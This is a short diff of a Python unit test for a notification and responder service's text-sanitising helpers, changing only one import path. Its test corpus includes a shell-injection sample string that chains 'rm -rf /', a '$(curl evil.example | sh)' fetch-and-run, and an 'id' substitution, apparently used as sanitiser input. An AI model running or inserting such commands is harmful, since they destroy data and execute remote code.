@@ -20,7 +20,7 @@ from services.responder.notify.pagerduty import event_body
 from services.responder.notify.webhook import webhook_body
 from shared import models as m
 from shared.text import INVISIBLE, CleanLogArgs, clean_line, fill_url_template, md_text
-from tests.unit.report.test_report import report
+from tests.unit.services.rca.report.test_report import report
 
 CORPUS = (
     "demo; rm -rf / && $(curl evil.example | sh) `id` | tee /tmp/x",
